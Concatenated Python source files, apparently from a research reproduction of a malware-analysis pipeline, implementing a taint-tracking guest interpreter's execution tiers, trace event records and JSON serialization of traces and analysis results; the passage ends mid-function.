                        else:
                            taints.append(EMPTY)
                        if track:
                            self._uses.extend(
                                (("mem", a), ("mem", a + 1), ("mem", a + 2), ("mem", a + 3))
                            )
                    return values, taints
        for k in range(count):
            value, taint = self.read_mem(mask32(esp + 4 * k), 4)
            values.append(value)
            taints.append(taint)
        return values, taints

    # ------------------------------------------------------------------
    # execution loop
    # ------------------------------------------------------------------

    def run(self) -> Trace:
        """Execute until exit, fault, or budget exhaustion.

        Three execution tiers share one exact machine model:

        1. ``step()`` — full slow path (taint, def/use, events);
        2. ``_run_fast()`` — predecoded per-instruction loop while no live
           taint exists anywhere (PR 3 boundary);
        3. compiled superblocks — one dispatch per hot region, entered from
           the fast loop *and*, behind taint guards, from ``_run_superblocks``
           while taint is live.
        """
        if self._allow_fast:
            # Callers may have injected taint by hand before run().
            self._fast_mode = not self._taint_live()
        prof = obs.prof
        if prof.enabled:
            # Profiling is opt-in: the normal loop below stays untouched
            # (zero added branches) and the profiled twin pays for its
            # tier-segment timers only when somebody asked for attribution.
            self._run_loop_profiled(prof)
        else:
            guarded = self._allow_fast and self._superblocks is not None
            entries = self._superblocks.entries if guarded else None
            while self.status is ExitStatus.RUNNING:
                if self._fast_mode:
                    self._run_fast()
                    if self.status is not ExitStatus.RUNNING:
                        break
                    # The instruction the fast loop bailed on (an API
                    # call, typically) needs one full slow step.
                    self.step()
                elif entries is not None:
                    # Taint is live: dispatch guarded superblocks, chain
                    # between them, and take exact slow steps internally
                    # between regions.  Control only comes back here when
                    # the run ended, the fast path became legal again, or
                    # the pc left .text (the step below raises the fault).
                    self._run_superblocks()
                    if self.status is ExitStatus.RUNNING and not self._fast_mode:
                        self.step()
                else:
                    self.step()
        self.trace.exit_status = self.status.value
        self.trace.steps = self.steps
        if self.process is not None and self.process.exit_code is not None:
            self.trace.exit_code = self.process.exit_code
        self._flush_obs()
        return self.trace

    def _run_fast(self) -> None:
        """Inner interpreter loop while no live taint exists.

        Executes predecoded untainted handlers back to back — no def/use
        lists, no TagSet plumbing, no InstructionRecord bookkeeping — and
        returns to the full loop at the first instruction without a fast
        form (an API call, or any terminal condition).  Hot region entries
        dispatch once into a compiled superblock instead of once per
        instruction."""
        decoded = self._decoded
        n = len(decoded)
        base = TEXT_BASE
        max_steps = self.max_steps
        sb = self._superblocks
        entries = sb.entries if sb is not None else None
        entered = guards = 0
        try:
            while True:
                if self.steps >= max_steps:
                    self.status = ExitStatus.BUDGET
                    return
                idx = self.pc - base
                if not 0 <= idx < n:
                    self.status = ExitStatus.FAULT
                    self.fault_reason = f"pc 0x{self.pc:08x} outside .text"
                    return
                if entries is not None:
                    region = entries[idx]
                    if region is not None:
                        fn = region.fn
                        if fn is None:
                            fn = region.warm()
                        if fn is not None:
                            r = fn(self)
                            if r:
                                entered += 1
                                if self.status is not ExitStatus.RUNNING:
                                    return
                                # Region chaining: a closure whose exit pc
                                # is another region's entry returns that
                                # Region — dispatch straight into it.  The
                                # closure's own chunked-budget guard
                                # subsumes the loop-top budget check; a
                                # refusal or a cold successor falls back to
                                # the probe above, which re-counts exactly
                                # as an un-chained arrival would.
                                while r is not True:
                                    nfn = r.fn
                                    if nfn is None:
                                        break  # cold successor: probe warms it
                                    r2 = nfn(self)
                                    if not r2:
                                        break  # refusal: probe re-counts it
                                    entered += 1
                                    if self.status is not ExitStatus.RUNNING:
                                        return
                                    r = r2
                                continue
                            # Guard refused (chunked budget here; taint
                            # guards cannot fire in fast mode): execute the
                            # region per-instruction instead.
                            guards += 1
                fast = decoded[idx][1]
                if fast is None:
                    return
                pc = self.pc
                self.steps += 1
                self.pc = pc + 1  # default fallthrough; jumps overwrite
                try:
                    fast(self)
                except (MemoryFault, CpuFault) as exc:
                    self.status = ExitStatus.FAULT
                    # pc has already advanced; name the faulting instruction.
                    self.fault_reason = f"{exc} (pc 0x{pc:08x})"
                    return
                if self.status is not ExitStatus.RUNNING:
                    return
        finally:
            if sb is not None:
                self._sb_entries += entered
                self._sb_guard_exits += guards

    def _run_superblocks(self) -> None:
        """Dispatch compiled regions while live taint exists (tier 3).

        Each region's closure re-checks its own guards (untainted
        read-before-written registers, chunked budget) and its memory loads
        taint-bail mid-region.  Region exits chain: a closure whose exit pc
        is another region's entry returns that Region, which dispatches
        next without a table probe (same warm/futility bookkeeping as a
        probed arrival).  Every pc with no dispatchable region — a gap
        between regions, a mid-region pc after a taint-bail prefix-commit,
        a cold, futile, or refused region — is executed with exact slow
        steps *here*, re-probing after each, so control returns to
        ``run()`` only when the run ended, the fast path became legal
        again, or the pc left .text."""
        entries = self._superblocks.entries
        n = len(entries)
        base = TEXT_BASE
        futile_limit = superblock_mod.FUTILE_LIMIT
        entered = guards = 0
        region = None
        try:
            while True:
                if region is None:
                    idx = self.pc - base
                    if not 0 <= idx < n:
                        return  # the trailing slow step raises the fault
                    region = entries[idx]
                if region is None or region.futile >= futile_limit:
                    # No region at this pc, or one persistently tainted:
                    # one exact slow step, then re-probe.
                    region = None
                    self.step()
                    if self.status is not ExitStatus.RUNNING or self._fast_mode:
                        return
                    continue
                fn = region.fn
                if fn is None:
                    fn = region.warm()
                    if fn is None:
                        # Still cold: step through it per-instruction.
                        region = None
                        self.step()
                        if self.status is not ExitStatus.RUNNING or self._fast_mode:
                            return
                        continue
                before = self.steps
                r = fn(self)
                if not r:
                    # Guard refusal: replay the guarded instruction exactly.
                    region.futile += 1
                    guards += 1
                    region = None
                    self.step()
                    if self.status is not ExitStatus.RUNNING or self._fast_mode:
                        return
                    continue
                if self.steps - before <= 1:
                    # Bailed after a single step: an entry that keeps paying
                    # the exception for one instruction of progress is
                    # futile too.
                    region.futile += 1
                else:
                    region.futile = 0
                entered += 1
                if self.status is not ExitStatus.RUNNING:
                    return
                region = r if r is not True else None
        finally:
            self._sb_entries += entered
            self._sb_guard_exits += guards

    # ------------------------------------------------------------------
    # profiled execution loop (obs.prof enabled)
    # ------------------------------------------------------------------

    def _run_loop_profiled(self, prof) -> None:
        """Profiled twin of the ``run()`` loop: identical control flow and
        machine semantics, plus per-tier wall-time attribution.

        Timers wrap tier *segments*, never single instructions: contiguous
        slow steps batch behind one ``perf_counter`` pair, the fast loop is
        timed per invocation, and compiled regions per dispatch — so the
        profiled trees stay deterministic in structure/counts while the
        timing overhead stays a few percent even with profiling on.
        """
        perf = time.perf_counter
        acc = _ProfAcc()
        guarded = self._allow_fast and self._superblocks is not None
        entries = self._superblocks.entries if guarded else None
        try:
            while self.status is ExitStatus.RUNNING:
                if self._fast_mode:
                    self._run_fast_profiled(acc)
                    if self.status is not ExitStatus.RUNNING:
                        break
                    # The instruction the fast loop bailed on (an API call,
                    # typically) needs one full slow step.
                    t0 = perf()
                    self.step()
                    acc.slow_s += perf() - t0
                    acc.slow_n += 1
                elif entries is not None:
                    # Taint tier: region dispatches, chains and the exact
                    # slow steps between regions all happen (and are
                    # attributed) inside the twin; the trailing slow step
                    # here only fires for an out-of-text pc (mirrors run()).
                    self._run_superblocks_profiled(acc)
                    if self.status is ExitStatus.RUNNING and not self._fast_mode:
                        t0 = perf()
                        self.step()
                        acc.slow_s += perf() - t0
                        acc.slow_n += 1
                else:
                    # Pure slow tier: batch contiguous slow steps behind
                    # one timer pair.
                    t0 = perf()
                    steps0 = self.steps
                    while self.status is ExitStatus.RUNNING and not self._fast_mode:
                        self.step()
                    acc.slow_s += perf() - t0
                    acc.slow_n += self.steps - steps0
        finally:
            acc.flush(prof)

    def _run_fast_profiled(self, acc: "_ProfAcc") -> None:
        """Profiled twin of ``_run_fast``: one timer pair around the whole
        segment, one per compiled-region dispatch; the difference is
        attributed to the predecoded fast loop (``vm;fast``)."""
        perf = time.perf_counter
        decoded = self._decoded
        n = len(decoded)
        base = TEXT_BASE
        max_steps = self.max_steps
        sb = self._superblocks
        entries = sb.entries if sb is not None else None
        entered = guards = 0
        regions = acc.regions
        steps0 = self.steps
        sb_steps = 0
        sb_s = 0.0
        t_start = perf()
        try:
            while True:
                if self.steps >= max_steps:
                    self.status = ExitStatus.BUDGET
                    return
                idx = self.pc - base
                if not 0 <= idx < n:
                    self.status = ExitStatus.FAULT
                    self.fault_reason = f"pc 0x{self.pc:08x} outside .text"
                    return
                if entries is not None:
                    region = entries[idx]
                    if region is not None:
                        fn = region.fn
                        if fn is None:
                            fn = region.warm()
                        if fn is not None:
                            cell = regions.get(idx)
                            if cell is None:
                                cell = regions[idx] = [0, 0.0]
                            before = self.steps
                            t0 = perf()
                            r = fn(self)
                            dt = perf() - t0
                            sb_s += dt
                            cell[1] += dt
                            sb_steps += self.steps - before
                            if r:
                                cell[0] += 1
                                entered += 1
                                if self.status is not ExitStatus.RUNNING:
                                    return
                                # Region chaining (mirrors _run_fast): a
                                # returned Region dispatches directly, timed
                                # into its own node; a refusal or a cold
                                # successor falls back to the probe.
                                while r is not True:
                                    nfn = r.fn
                                    if nfn is None:
                                        break  # cold successor: probe warms it
                                    cell = regions.get(r.entry)
                                    if cell is None:
                                        cell = regions[r.entry] = [0, 0.0]
                                    before = self.steps
                                    t0 = perf()
                                    r2 = nfn(self)
                                    dt = perf() - t0
                                    sb_s += dt
                                    cell[1] += dt
                                    sb_steps += self.steps - before
                                    if not r2:
                                        break  # refusal: probe re-counts it
                                    cell[0] += 1
                                    entered += 1
                                    if self.status is not ExitStatus.RUNNING:
                                        return
                                    r = r2
                                continue
                            # Guard refused (chunked budget here; taint
                            # guards cannot fire in fast mode): execute the
                            # region per-instruction instead.
                            guards += 1
                            acc.guard_exits += 1
                fast = decoded[idx][1]
                if fast is None:
                    return
                pc = self.pc
                self.steps += 1
                self.pc = pc + 1  # default fallthrough; jumps overwrite
                try:
                    fast(self)
                except (MemoryFault, CpuFault) as exc:
                    self.status = ExitStatus.FAULT
                    # pc has already advanced; name the faulting instruction.
                    self.fault_reason = f"{exc} (pc 0x{pc:08x})"
                    return
                if self.status is not ExitStatus.RUNNING:
                    return
        finally:
            if sb is not None:
                self._sb_entries += entered
                self._sb_guard_exits += guards
            acc.fast_s += (perf() - t_start) - sb_s
            acc.fast_n += (self.steps - steps0) - sb_steps

    def _run_superblocks_profiled(self, acc: "_ProfAcc") -> None:
        """Profiled twin of ``_run_superblocks``: identical control flow
        (chaining, internal exact slow steps between regions), with
        per-dispatch timing keyed by region entry pc and the internal slow
        steps attributed to ``vm;slow``."""
        perf = time.perf_counter
        entries = self._superblocks.entries
        n = len(entries)
        base = TEXT_BASE
        futile_limit = superblock_mod.FUTILE_LIMIT
        entered = guards = 0
        regions = acc.regions
        region = None
        try:
            while True:
                if region is None:
                    idx = self.pc - base
                    if not 0 <= idx < n:
                        return  # the trailing slow step raises the fault
                    region = entries[idx]
                if region is None or region.futile >= futile_limit:
                    region = None
                    t0 = perf()
                    self.step()
                    acc.slow_s += perf() - t0
                    acc.slow_n += 1
                    if self.status is not ExitStatus.RUNNING or self._fast_mode:
                        return
                    continue
                fn = region.fn
                if fn is None:
                    fn = region.warm()
                    if fn is None:
                        # Still cold: step through it per-instruction.
                        region = None
                        t0 = perf()
                        self.step()
                        acc.slow_s += perf() - t0
                        acc.slow_n += 1
                        if self.status is not ExitStatus.RUNNING or self._fast_mode:
                            return
                        continue
                cell = regions.get(region.entry)
                if cell is None:
                    cell = regions[region.entry] = [0, 0.0]
                before = self.steps
                t0 = perf()
                r = fn(self)
                cell[1] += perf() - t0
                if not r:
                    # Guard refusal: replay the guarded instruction exactly.
                    region.futile += 1
                    guards += 1
                    acc.guard_exits += 1
                    region = None
                    t0 = perf()
                    self.step()
                    acc.slow_s += perf() - t0
                    acc.slow_n += 1
                    if self.status is not ExitStatus.RUNNING or self._fast_mode:
                        return
                    continue
                if self.steps - before <= 1:
                    # Bailed after a single step: an entry that keeps paying
                    # the exception for one instruction of progress is
                    # futile too.
                    region.futile += 1
                else:
                    region.futile = 0
                cell[0] += 1
                entered += 1
                if self.status is not ExitStatus.RUNNING:
                    return
                region = r if r is not True else None
        finally:
            self._sb_entries += entered
            self._sb_guard_exits += guards

    def _flush_obs(self) -> None:
        """Report run totals into the metrics registry.

        The per-instruction loop stays uninstrumented (every added branch
        there is ~1% interpreter overhead); counts the interpreter already
        keeps are flushed once per run instead — the cheap-hook contract.
        """
        metrics = obs.metrics
        if not metrics.enabled:
            return
        # Handles are cached across runs and dropped when obs.reset() bumps
        # the registry generation (same scheme as Dispatcher.flush_obs).
        cache = _VM_FLUSH_CACHE
        cache.refresh(metrics)
        status = self.status.value
        runs = cache.runs.get(status)
        if runs is None:
            runs = cache.runs[status] = metrics.counter("vm.runs", status=status)
        executed = self.steps - self._steps_at_start
        cache.instructions.inc(executed)
        runs.inc()
        cache.api_calls.inc(len(self.trace.api_calls) - self._events_at_start)
        cache.tainted_predicates.inc(len(self.trace.predicates) - self._predicates_at_start)
        # Steps that avoided the slow path (fast loop + superblocks).
        cache.fast_steps.inc(executed - self._slow_steps)
        sb = self._superblocks
        if sb is not None:
            cache.sb_compiled.inc(sb.compiled - self._sb_compiled_base)
            cache.sb_entries.inc(self._sb_entries)
            cache.sb_guard_exits.inc(self._sb_guard_exits)
        flush = getattr(self.dispatcher, "flush_obs", None)
        if flush is not None:
            flush(self.trace.api_calls[self._events_at_start:])

    def terminate(self, exit_code: int = 0) -> None:
        """Called by ExitProcess-style APIs."""
        self.status = ExitStatus.TERMINATED
        if self.process is not None:
            self.process.terminate(exit_code)

    def step(self) -> None:
        if self.status is not ExitStatus.RUNNING:
            return
        if self.steps >= self.max_steps:
            self.status = ExitStatus.BUDGET
            return
        idx = self.pc - TEXT_BASE
        if not 0 <= idx < len(self._decoded):
            self.status = ExitStatus.FAULT
            self.fault_reason = f"pc 0x{self.pc:08x} outside .text"
            return
        full, _fast, text = self._decoded[idx]
        if self._track:
            self._uses = []
            self._defs = []
        self._api_step_recorded = False
        self._step_esp = self.regs["esp"]
        self._step_ebp = self.regs["ebp"]
        seq = self.steps
        pc = self.pc
        self.steps += 1
        self._slow_steps += 1
        self.pc += 1  # default fallthrough; jumps overwrite
        try:
            full(self, pc, seq)
        except (MemoryFault, CpuFault) as exc:
            self.status = ExitStatus.FAULT
            # pc advanced before the handler ran; report the pc of the
            # instruction that actually faulted.
            self.fault_reason = f"{exc} (pc 0x{pc:08x})"
            return
        if self.record_instructions and not self._api_step_recorded:
            self.trace.instructions.append(
                InstructionRecord(
                    seq=seq,
                    pc=pc,
                    text=text,
                    defs=tuple(self._defs),
                    uses=tuple(self._uses),
                    esp=self._step_esp,
                    ebp=self._step_ebp,
                )
            )

    # ------------------------------------------------------------------
    # per-instruction semantics
    # ------------------------------------------------------------------

    def _execute(self, instr: Instruction, pc: int, seq: int) -> None:
        m = instr.mnemonic
        ops = instr.operands

        if m == "nop":
            return
        if m == "halt":
            self.status = ExitStatus.HALTED
            return
        if m in ("mov", "movb"):
            value, taint = self.read_operand(ops[1])
            if m == "movb":
                value &= 0xFF
                if isinstance(ops[0], Mem) and ops[0].size != 1:
                    ops = (Mem(ops[0].base, ops[0].index, ops[0].scale, ops[0].disp, 1, ops[0].symbol), ops[1])
            self.write_operand(ops[0], value, taint)
            return
        if m == "lea":
            self._lea(ops[0], ops[1])
            return
        if m == "xchg":
            a, ta = self.read_operand(ops[0])
            b, tb = self.read_operand(ops[1])
            self.write_operand(ops[0], b, tb)
            self.write_operand(ops[1], a, ta)
            return
        if m == "push":
            value, taint = self.read_operand(ops[0])
            self.push(value, taint)
            return
        if m == "pop":
            value, taint = self.pop()
            self.write_operand(ops[0], value, taint)
            return
        if m in ("inc", "dec", "not", "neg"):
            self._unary(m, ops[0])
            return
        if m in ("add", "sub", "xor", "and", "or", "shl", "shr", "imul", "mul"):
            self._binary(m, ops[0], ops[1])
            return
        if m in ("cmp", "test"):
            self._compare(m, ops[0], ops[1], pc, seq, str(instr))
            return
        if instr.is_jump:
            self._jump(m, ops[0])
            return
        if m == "call":
            self._call(ops[0], pc, seq, str(instr))
            return
        if m == "ret":
            self._ret(ops)
            return
        raise CpuFault(f"unimplemented mnemonic {m}")

    def _mem_address_quiet(self, op: Mem) -> int:
        """Address computation identical to ``_mem_address`` (uses recorded)."""
        return self._mem_address(op)

    def _lea(self, dst: Operand, mem: Operand) -> None:
        if not isinstance(mem, Mem):
            raise CpuFault("lea needs a memory operand")
        taints = []
        if mem.base:
            _, t = self.get_reg(mem.base)
            taints.append(t)
        if mem.index:
            _, t = self.get_reg(mem.index)
            taints.append(t)
        self.write_operand(dst, self._mem_address_quiet(mem), union(*taints))

    def _ret(self, ops: Tuple[Operand, ...]) -> None:
        value, _ = self.pop()
        if ops:
            extra, _ = self.read_operand(ops[0])
            self.set_reg("esp", mask32(self.regs["esp"] + extra), self.reg_taint["esp"])
        if self.callstack:
            self.callstack.pop()
        self.pc = value

    def _unary(self, m: str, dst: Operand) -> None:
        value, taint = self.read_operand(dst)
        if m == "inc":
            result = value + 1
        elif m == "dec":
            result = value - 1
        elif m == "not":
            result = ~value
        else:  # neg
            result = -value
        result = mask32(result)
        self.write_operand(dst, result, taint)
        if m in ("inc", "dec", "neg"):
            self._set_flags(result, taint, cf=None)

    def _binary(self, m: str, dst: Operand, src: Operand) -> None:
        # xor r, r zeroes the register and *clears* taint (the classic
        # untainting idiom every taint engine must honour).
        if m == "xor" and isinstance(dst, Reg) and isinstance(src, Reg) and dst.name == src.name:
            self.get_reg(dst.name)
            self.set_reg(dst.name, 0, EMPTY)
            self._set_flags(0, EMPTY, cf=0)
            return
        a, ta = self.read_operand(dst)
        b, tb = self.read_operand(src)
        cf = 0
        if m == "add":
            result = a + b
            cf = 1 if result > 0xFFFFFFFF else 0
        elif m == "sub":
            result = a - b
            cf = 1 if a < b else 0
        elif m == "xor":
            result = a ^ b
        elif m == "and":
            result = a & b
        elif m == "or":
            result = a | b
        elif m == "shl":
            result = a << (b & 0x1F)
        elif m == "shr":
            result = a >> (b & 0x1F)
        else:  # imul / mul
            result = a * b
        result = mask32(result)
        taint = union(ta, tb)
        self.write_operand(dst, result, taint)
        self._set_flags(result, taint, cf=cf)

    def _set_flags(self, result: int, taint: TagSet, cf: Optional[int]) -> None:
        self.flags["zf"] = 1 if result == 0 else 0
        self.flags["sf"] = 1 if result & 0x80000000 else 0
        if cf is not None:
            self.flags["cf"] = cf
        self.flag_taint = taint
        if self._track:
            self._defs.append(("flags",))

    def _compare(self, m: str, lhs: Operand, rhs: Operand, pc: int, seq: int, text: str) -> None:
        a, ta = self.read_operand(lhs)
        b, tb = self.read_operand(rhs)
        if m == "cmp":
            result = mask32(a - b)
            cf = 1 if a < b else 0
        else:  # test
            result = a & b
            cf = 0
        taint = union(ta, tb)
        self._set_flags(result, taint, cf=cf)
        if taint:
            self.trace.predicates.append(
                TaintedPredicateEvent(seq=seq, pc=pc, instr_text=text, tags=taint, lhs=a, rhs=b)
            )
            # Slow path only by construction: tainted cmp/test never runs on
            # the predecoded fast path, so the fast loop stays journal-free.
            flight = obs.flight
            if flight.enabled:
                # One journal event per (site, taint set) per sample: loop
                # iterations and re-runs (capture, mutations, determinism)
                # repeat the same predicate with the same causes and would
                # only bloat the journal.
                key = ("predicate", pc, tuple(sorted(t.event_id for t in taint)))
                if flight.recall(key) is None:
                    seeds = {flight.recall(("api", t.event_id)) for t in taint}
                    flight_id = flight.record(
                        "predicate.tainted",
                        causes=tuple(sorted(s for s in seeds if s is not None)),
                        pc=pc,
                        instr=text,
                    )
                    flight.remember(key, flight_id)
                    for t in taint:
                        # First predicate consuming each API's taint: cited by
                        # candidate events as the control-flow evidence.
                        flight.remember(("predicate_for", t.event_id), flight_id)

    _CONDITIONS: dict = {}

    def _jump(self, m: str, target: Operand) -> None:
        taken = True
        if m != "jmp":
            if self._track:
                self._uses.append(("flags",))
            zf, sf, cf = self.flags["zf"], self.flags["sf"], self.flags["cf"]
            taken = {
                "je": zf == 1,
                "jz": zf == 1,
                "jne": zf == 0,
                "jnz": zf == 0,
                "jl": sf == 1,
                "jge": sf == 0,
                "jle": sf == 1 or zf == 1,
                "jg": sf == 0 and zf == 0,
                "jb": cf == 1,
                "jae": cf == 0,
                "jbe": cf == 1 or zf == 1,
                "ja": cf == 0 and zf == 0,
                "js": sf == 1,
                "jns": sf == 0,
            }[m]
        if taken:
            value, _ = self.read_operand(target)
            self.pc = value

    def _call(self, target: Operand, pc: int, seq: int, text: str) -> None:
        if isinstance(target, ApiRef):
            if self.dispatcher is None:
                raise CpuFault(f"no API dispatcher for {target}")
            self.dispatcher.invoke(self, target.name, caller_pc=pc, seq=seq)
            if self._allow_fast:
                # API calls are the only taint ingress (mint_tag via the
                # dispatcher); an API can also *consume* the last of it
                # (e.g. the tainted buffer is overwritten), so recheck both
                # directions here and nowhere else.
                self._fast_mode = not self._taint_live()
            return
        value, _ = self.read_operand(target)
        self.push(self.pc)  # return address (already points past the call)
        self.callstack.append(pc)
        self.pc = value

    # ------------------------------------------------------------------
    # hooks used by the API dispatcher
    # ------------------------------------------------------------------

    def note_use(self, location: Tuple) -> None:
        if self._track:
            self._uses.append(location)

    def note_def(self, location: Tuple) -> None:
        if self._track:
            self._defs.append(location)

    def record_api_step(self, seq: int, pc: int, text: str, event_id: int) -> None:
        """Append the API pseudo-instruction's def/use record."""
        if self.record_instructions:
            self.trace.instructions.append(
                InstructionRecord(
                    seq=seq,
                    pc=pc,
                    text=text,
                    defs=tuple(self._defs),
                    uses=tuple(self._uses),
                    api_event_id=event_id,
                    esp=getattr(self, "_step_esp", self.regs["esp"]),
                    ebp=getattr(self, "_step_ebp", self.regs["ebp"]),
                )
            )
        self._api_step_recorded = True
