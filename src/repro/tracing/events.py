"""Trace event types recorded during guest execution.

Phase I's output (paper §III): "we log all the executed APIs as well as their
parameters, along with the precise calling context information including the
call stack and the caller-PC", plus the tainted predicates.  These records are
exactly what the later phases (alignment, determinism) consume.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from ..taint.labels import TagSet
from ..winenv.objects import Operation, ResourceType

#: A data location for def/use tracking: ("reg", name) | ("mem", addr) | ("flags",).
Location = Tuple


@dataclass(slots=True)
class ApiCallEvent:
    """One executed API call with full calling context."""

    event_id: int
    seq: int                      # position in the instruction stream
    api: str
    caller_pc: int
    args: Tuple[int, ...]
    callstack: Tuple[int, ...] = ()
    #: Resolved resource identifier (normalized), when the API has one.
    identifier: Optional[str] = None
    #: Per-byte taint of the identifier string as read from guest memory.
    identifier_taints: Optional[List[TagSet]] = None
    resource_type: Optional[ResourceType] = None
    operation: Optional[Operation] = None
    retval: int = 0
    success: bool = True
    error: int = 0
    #: True when an interceptor (mutation / daemon) altered the outcome.
    mutated: bool = False
    #: API-specific details (e.g. target process name, registry value name).
    extra: Dict[str, object] = field(default_factory=dict)

    @property
    def is_resource_access(self) -> bool:
        return self.resource_type is not None

    def context_key(self, static_args: bool = True) -> Tuple:
        """Alignment key: ``<API-name, Caller-PC, parameter list>`` (§IV-B).

        Only static parameters — the resolved identifier rather than raw
        pointer values, which differ across runs — participate, as the paper
        compares "only the static parameters that are identical across
        different executions".
        """
        if static_args:
            return (self.api, self.caller_pc, self.identifier)
        return (self.api, self.caller_pc)


@dataclass(slots=True)
class TaintedPredicateEvent:
    """A ``cmp``/``test`` whose operands carried taint (§III-B)."""

    seq: int
    pc: int
    instr_text: str
    tags: TagSet
    lhs: int = 0
    rhs: int = 0


@dataclass(slots=True)
class InstructionRecord:
    """Def/use record of one executed step, for backward slicing (§IV-C).

    ``api_event_id`` links API pseudo-steps to their :class:`ApiCallEvent`.
    """

    seq: int
    pc: int
    text: str
    defs: Tuple[Location, ...]
    uses: Tuple[Location, ...]
    api_event_id: Optional[int] = None
    #: esp/ebp at instruction start — slice replay pins the stack frame to
    #: these recorded values instead of chasing full stack-pointer history.
    esp: int = 0
    ebp: int = 0
