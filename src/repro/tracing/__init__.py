"""Execution tracing: API events with calling context, tainted predicates,
per-instruction def/use records, and JSON serialization."""

from .events import ApiCallEvent, InstructionRecord, Location, TaintedPredicateEvent
from .serialize import trace_from_json, trace_to_json
from .trace import Trace

__all__ = [
    "ApiCallEvent",
    "InstructionRecord",
    "Location",
    "TaintedPredicateEvent",
    "Trace",
    "trace_from_json",
    "trace_to_json",
]
