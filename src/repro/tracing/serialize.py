"""Trace serialization: persist Phase-I logs for offline analysis.

The paper performs differential and backward analysis "offline on logged
traces"; this module provides the log format — JSON with enough fidelity to
re-run alignment and statistics (instruction-level def/use records are
intentionally omitted: they are bulky and only consumed in-process).
"""

from __future__ import annotations

import json
from typing import List, Optional

from ..taint.labels import TaintClass, TaintTag
from ..winenv.objects import Operation, ResourceType
from .events import ApiCallEvent, TaintedPredicateEvent
from .trace import Trace

FORMAT_VERSION = 1


def _tagset_to_list(tags) -> List[dict]:
    return [
        {"event_id": t.event_id, "api": t.api, "klass": t.klass.value}
        for t in sorted(tags, key=lambda t: (t.event_id, t.api))
    ]


def _tagset_from_list(data) -> frozenset:
    return frozenset(
        TaintTag(event_id=d["event_id"], api=d["api"], klass=TaintClass(d["klass"]))
        for d in data
    )


def event_to_dict(event: ApiCallEvent) -> dict:
    return {
        "event_id": event.event_id,
        "seq": event.seq,
        "api": event.api,
        "caller_pc": event.caller_pc,
        "args": list(event.args),
        "callstack": list(event.callstack),
        "identifier": event.identifier,
        "identifier_taints": (
            [_tagset_to_list(t) for t in event.identifier_taints]
            if event.identifier_taints is not None
            else None
        ),
        "resource_type": event.resource_type.value if event.resource_type else None,
        "operation": event.operation.value if event.operation else None,
        "retval": event.retval,
        "success": event.success,
        "error": event.error,
        "mutated": event.mutated,
        "extra": {k: v for k, v in event.extra.items() if _jsonable(v)},
    }


def event_from_dict(data: dict) -> ApiCallEvent:
    return ApiCallEvent(
        event_id=data["event_id"],
        seq=data["seq"],
        api=data["api"],
        caller_pc=data["caller_pc"],
        args=tuple(data.get("args", ())),
        callstack=tuple(data.get("callstack", ())),
        identifier=data.get("identifier"),
        identifier_taints=(
            [_tagset_from_list(t) for t in data["identifier_taints"]]
            if data.get("identifier_taints") is not None
            else None
        ),
        resource_type=(
            ResourceType(data["resource_type"]) if data.get("resource_type") else None
        ),
        operation=Operation(data["operation"]) if data.get("operation") else None,
        retval=data.get("retval", 0),
        success=data.get("success", True),
        error=data.get("error", 0),
        mutated=data.get("mutated", False),
        extra=dict(data.get("extra", {})),
    )


def predicate_to_dict(pred: TaintedPredicateEvent) -> dict:
    return {
        "seq": pred.seq,
        "pc": pred.pc,
        "instr_text": pred.instr_text,
        "tags": _tagset_to_list(pred.tags),
        "lhs": pred.lhs,
        "rhs": pred.rhs,
    }


def predicate_from_dict(data: dict) -> TaintedPredicateEvent:
    return TaintedPredicateEvent(
        seq=data["seq"],
        pc=data["pc"],
        instr_text=data["instr_text"],
        tags=_tagset_from_list(data.get("tags", [])),
        lhs=data.get("lhs", 0),
        rhs=data.get("rhs", 0),
    )


def trace_to_json(trace: Trace, indent: Optional[int] = None) -> str:
    return json.dumps(
        {
            "format_version": FORMAT_VERSION,
            "program_name": trace.program_name,
            "exit_status": trace.exit_status,
            "exit_code": trace.exit_code,
            "steps": trace.steps,
            "api_calls": [event_to_dict(e) for e in trace.api_calls],
            "predicates": [predicate_to_dict(p) for p in trace.predicates],
        },
        indent=indent,
    )


def trace_from_json(text: str) -> Trace:
    data = json.loads(text)
    version = data.get("format_version")
    if version != FORMAT_VERSION:
        raise ValueError(f"unsupported trace format version {version!r}")
    trace = Trace(program_name=data.get("program_name", ""))
    trace.exit_status = data.get("exit_status", "unknown")
    trace.exit_code = data.get("exit_code")
    trace.steps = data.get("steps", 0)
    trace.api_calls = [event_from_dict(e) for e in data.get("api_calls", [])]
    trace.predicates = [predicate_from_dict(p) for p in data.get("predicates", [])]
    return trace


def _jsonable(value) -> bool:
    return isinstance(value, (str, int, float, bool, type(None)))
