"""Trace and analysis-result serialization.

The paper performs differential and backward analysis "offline on logged
traces"; this module provides the log format — JSON with enough fidelity to
re-run alignment and statistics (instruction-level def/use records are
intentionally omitted: they are bulky and only consumed in-process).

It also provides the **analysis codec**: a versioned JSON encoding of a
whole :class:`~repro.core.pipeline.SampleAnalysis` (candidates, impacts,
determinism, vaccines, span-derived timings).  This is what crosses the
process boundary in the parallel executor and what the content-addressed
result cache stores on disk.  Hermeticity rule: anything holding live VM
state (``RunResult``, alignments, mutated runs, backward-slice raw output)
is dropped — a decoded analysis answers every population-level question
(tables, stats, vaccine deployment) but cannot be re-executed.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Dict, List, Optional

from ..obs import Journal, Span
from ..taint.labels import TaintClass, TaintTag
from ..winenv.objects import Operation, ResourceType
from .events import ApiCallEvent, TaintedPredicateEvent
from .trace import Trace

if TYPE_CHECKING:  # pragma: no cover - annotations only
    from ..core.candidate import CandidateReport, CandidateResource
    from ..core.clinic import ClinicReport
    from ..core.determinism import DeterminismResult
    from ..core.exclusiveness import ExclusivenessDecision
    from ..core.impact import ImpactOutcome
    from ..core.pipeline import SampleAnalysis, SampleFailure

FORMAT_VERSION = 1

#: Version of the :func:`analysis_to_dict` payload.  Bump on any change to
#: the encoded shape; the result cache keys on it, so stale cache entries
#: from an older layout can never be decoded by mistake.
#: v2 added the optional flight-recorder ``journal``; v3 the optional
#: temporal API ``policy``; v4 the optional hot-path ``profile``.
ANALYSIS_FORMAT_VERSION = 4

#: Older payload versions :func:`analysis_from_dict` still decodes (fields
#: added since are absent and default to ``None``/empty).
SUPPORTED_ANALYSIS_VERSIONS = frozenset({1, 2, 3, ANALYSIS_FORMAT_VERSION})


def _tagset_to_list(tags) -> List[dict]:
    return [
        {"event_id": t.event_id, "api": t.api, "klass": t.klass.value}
        for t in sorted(tags, key=lambda t: (t.event_id, t.api))
    ]


def _tagset_from_list(data) -> frozenset:
    return frozenset(
